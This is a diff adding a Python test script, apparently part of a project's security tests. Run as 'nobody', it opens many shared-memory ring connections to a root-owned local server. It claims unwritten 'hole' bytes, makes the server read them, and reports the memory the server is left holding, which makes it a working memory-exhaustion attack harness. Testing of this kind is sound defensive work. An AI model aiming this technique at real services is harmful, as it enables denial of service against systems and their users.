@@ -1,0 +1,46 @@
+"""Run as nobody by pending/t_rt_idle_holes.sh: N CARRIER connections to root's server at
+127.0.0.1:PORT, each with a 64 MiB ring toward it in which it claims CLAIM bytes it never
+writes (holes) after PREFIX (a request that makes the server read them all). Once the server
+has read them (its ring_tail), keeps every connection open and idle: prints "READ <bytes> by
+<connections>", and after HOLD seconds "ALLOCATED <MiB>": the pages allocated in the
+client-to-server blocks (SEEK_DATA), which the server's reads made, charged to the server, and
+which stay for as long as the connections do.
+Usage: idle_holes.py PORT N CLAIM PREFIX HOLD"""
+import ctypes, mmap, os, socket, struct, sys, time
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import colo_attack as ca
+port, n, claim, prefix, hold = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4].encode().decode("unicode_escape").encode("latin-1"), float(sys.argv[5])
+RING = 64 << 20
+SIZE = ca.segment_size(RING, 0, 0)
+C2S, DATA = ca.HEADER, 1024
+S2C = ca.HEADER + (SIZE - ca.HEADER) // 2
+LIBC = ctypes.CDLL(None, use_errno=True)
+def mib(fd):
+    at, total = C2S, 0
+    while at < S2C:
+        try: data = os.lseek(fd, at, os.SEEK_DATA)
+        except OSError: break
+        if data >= S2C: break
+        hole = min(os.lseek(fd, data, os.SEEK_HOLE), S2C)
+        total += hole - data; at = hole
+    return total
+conns = []
+for i in range(n):
+    t, ctl, fd = ca.carrier_offer(RING, port)
+    a = ca.answer(ctl)
+    if a != "WELCOME":
+        print("answer", a, flush=True); break
+    m = mmap.mmap(fd, SIZE)
+    m[C2S + DATA:C2S + DATA + len(prefix)] = prefix
+    struct.pack_into("<I", m, C2S + 12, RING)
+    struct.pack_into("<Q", m, C2S, len(prefix) + claim)
+    ctl.send(b"r", socket.MSG_DONTWAIT)
+    addr = ctypes.addressof(ctypes.c_char.from_buffer(m, ca.SERVER_WAITING))
+    LIBC.syscall(202, ctypes.c_void_p(addr), 1, 0x7FFFFFFF, None, None, 0)
+    end = time.time() + 20
+    while time.time() < end and struct.unpack_from("<Q", m, C2S + 128)[0] < len(prefix) + claim:
+        time.sleep(0.02)
+    conns.append((t, ctl, fd, m))
+print("READ", sum(struct.unpack_from("<Q", c[3], C2S + 128)[0] for c in conns), "by", len(conns), flush=True)
+time.sleep(hold)
+print("ALLOCATED %d" % (sum(mib(c[2]) for c in conns) >> 20), flush=True)
